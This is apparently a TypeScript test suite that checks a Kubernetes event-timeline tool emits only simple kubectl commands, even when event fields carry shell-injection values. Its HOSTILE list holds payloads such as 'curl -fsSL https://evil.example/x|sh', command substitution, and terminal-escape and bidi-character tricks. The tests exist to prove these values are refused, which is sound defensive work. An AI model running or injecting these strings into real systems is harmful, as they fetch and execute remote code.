import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { simpleCommandWords } from '../../test/support/posix-command.js';
import { formatTimeline } from '../print/index.js';
import { buildTimeline } from '../timeline/index.js';
import { testEvent } from '../../test/support/timeline-events.js';
import type { CoreEvent, TimelineHint } from '../api/index.js';
import { explainTimeline } from './explain-timeline.js';

/**
 * The timeline's next steps, as the failure catalogue writes them (explainTimeline), from event fields an
 * Event's author chose: every command is one simple kubectl command of literal words, and a value that is
 * not a valid name for its role is a placeholder whose reason the step's why gives.
 */

/** HOSTILE are names an Event's author may write into any field a next step uses. */
const HOSTILE = [
  'node-1;curl -fsSL https://evil.example/x|sh;#',
  'web|sh',
  'web&&id',
  '$(touch /tmp/pwned)',
  '`id`',
  "it's",
  'a"b',
  'two words',
  'web\ncurl evil.example|sh',
  'web\r\n',
  'web\x1b]52;c;Y3VybCBldmlsfHNo\x07',
  'web\x9b2J',
  'web\u202eexe.sh',
  'web\u200b',
  '-n',
  '*',
  '~root',
  '${IFS}',
  'x'.repeat(300),
];

/** A message per family of the steps timelines had before the catalogue, so that each fires for each hostile value. */
const MESSAGES: [reason: string, message: (v: string) => string][] = [
  ['FailedScheduling', () => '0/3 nodes are available: 1 node(s) had untolerated taint {x: y}, 2 Insufficient cpu, node affinity/selector mismatch.'],
  ['Failed', (v) => `Failed to pull image "${v}": not found`],
  ['OOMKilling', (v) => `Memory cgroup out of memory: Killed process 1 (x), victim process: ${v}`],
  ['BackOff', (v) => `Back-off restarting failed container ${v} in pod ${v}`],
  ['Unhealthy', (v) => `Liveness probe failed: Get "http://10.0.0.5:8080/${v}": context deadline exceeded`],
  ['Evicted', () => 'The node was low on resource: memory.'],
  ['Failed', (v) => `exec: "sh": executable file not found in $PATH ${v}`],
];

/** hostileEvents are, per message, the event about a hostile pod, a hostile node, and a valid pod with a hostile container and host. */
function hostileEvents(v: string): CoreEvent[][] {
  return MESSAGES.map(([reason, message], i) => {
    const base = { reason, message: message(v), type: 'Warning', first: i };
    return [
      testEvent({ name: `pod-${i}`, namespace: v, object: v, fieldPath: `spec.containers{${v}}`, host: v, ...base }),
      testEvent({ name: `node-${i}`, kind: 'Node', object: v, host: v, ...base }),
      testEvent({ name: `ok-${i}`, namespace: 'shop', object: 'api-1', fieldPath: `spec.containers{${v}}`, host: v, ...base }),
    ];
  });
}

function checkHint(h: TimelineHint, v: string): void {
  let words: string[];
  try {
    words = simpleCommandWords(h.command);
  } catch (err) {
    assert.fail(`${JSON.stringify(v)} gives ${JSON.stringify(h.command)}: ${(err as Error).message}`);
  }
  assert.equal(words[0], 'kubectl', h.command);
  assert.doesNotMatch(h.command, /[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/, JSON.stringify(h.command));
  assert.doesNotMatch(h.why, /[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/, JSON.stringify(h.why));
  // A hostile value never reaches a command: it is refused, and the why says so ('-n' and '*' also stand in our own literal text).
  if (v.length > 2) assert.ok(!words.some((w) => w.includes(v)), `${JSON.stringify(v)} reached ${JSON.stringify(words)}`);
  if (h.command.includes('<')) assert.match(h.why, /\((?:the events do not name the|the [a-z ]+ ")/, h.why);
}

/** steps are the next steps of a timeline of `events`, for an object or of the whole input. */
function steps(events: CoreEvent[], root?: { kind: string; namespace: string; name: string }): TimelineHint[] {
  return buildTimeline({ events, ...(root === undefined ? {} : { for: root }), explain: explainTimeline }).hints;
}

describe('next steps from hostile event fields', () => {
  for (const v of HOSTILE) {
    it(`each command for ${JSON.stringify(v.slice(0, 40))} is one simple kubectl command with no control character`, () => {
      // One family at a time: a timeline's steps are its incidents' causes', so each family needs its own timeline.
      const hints = hostileEvents(v).flatMap((events) => steps(events));
      assert.ok(hints.length >= 10, `${hints.length} hints`);
      for (const h of hints) checkHint(h, v);
      const pod = hostileEvents(v).flatMap((events) => steps(events.filter((e) => e.involvedObject.kind === 'Pod' && e.involvedObject.name === v)));
      for (const h of pod) checkHint(h, v);
      if (v.length > 2) assert.ok(pod.some((h) => h.command.includes('<pod>') && /\(the pod name "/.test(h.why)), 'a refused pod shows as <pod>, with why');
      const own = hostileEvents(v).flatMap((events) => steps(events.filter((e) => e.involvedObject.name === 'api-1'), { kind: 'Pod', namespace: 'shop', name: 'api-1' }));
      assert.ok(own.length >= 10, `${own.length} hints`);
      for (const h of own) {
        checkHint(h, v);
        assert.match(h.command, /api-1 -n shop|pod\/api-1 -n shop|<node>|kubectl describe nodes|kubectl get nodes/, h.command);
      }
    });
  }

  it('the node of a Scheduled message reaches no command unchecked, in text and markdown output', () => {
    const node = 'node-1;curl -fsSL https://evil.example/x|sh;#';
    const events = [
      testEvent({ name: 's', namespace: 'shop', object: 'api-1', reason: 'Scheduled', message: `Successfully assigned shop/api-1 to ${node}`, first: 0 }),
      testEvent({ name: 'e', namespace: 'shop', object: 'api-1', reason: 'Evicted', message: 'The node was low on resource: memory.', type: 'Warning', first: 1 }),
    ];
    const t = buildTimeline({ events, for: { kind: 'Pod', namespace: 'shop', name: 'api-1' }, explain: explainTimeline });
    assert.deepEqual(
      t.hints.map((h) => h.command),
      ['kubectl describe node <node>', 'kubectl get pods -A -o wide --field-selector spec.nodeName=<node>'],
    );
    for (const h of t.hints) checkHint(h, node);
    const text = formatTimeline(t, { format: 'table' });
    assert.match(text, /^ {4}kubectl describe node <node>$/m);
    const md = formatTimeline(t, { format: 'markdown' });
    const blocks = md.split('```sh').slice(1).map((b) => b.split('```')[0]!.trim());
    assert.equal(blocks.length, 2);
    for (const block of blocks) assert.equal(simpleCommandWords(block)[0], 'kubectl');
  });

  it('valid names go through as they are, quoted only where a shell needs it', () => {
    // Past the warm-up of a starting container (more failures than a probe's default threshold).
    const e = testEvent({ name: 'u', namespace: 'shop', object: 'api-1', reason: 'Unhealthy', message: "Readiness probe failed: Get \"http://10.0.0.5:8080/health?x=1&y='2'\": EOF", type: 'Warning', first: 0, last: 60, count: 5, fieldPath: 'spec.containers{api}' });
    const hints = steps([e], { kind: 'Pod', namespace: 'shop', name: 'api-1' });
    assert.deepEqual(
      hints.map((h) => h.command),
      ["kubectl get pod api-1 -n shop -o 'jsonpath={.spec.containers[*].readinessProbe}'", 'kubectl logs api-1 -n shop -c api', 'kubectl port-forward pod/api-1 -n shop 8080'],
    );
    assert.equal(hints[2]!.why, "then try the endpoint as the probe does: curl -v 'http://127.0.0.1:8080/health?x=1&y='\\''2'\\'''");
  });
});
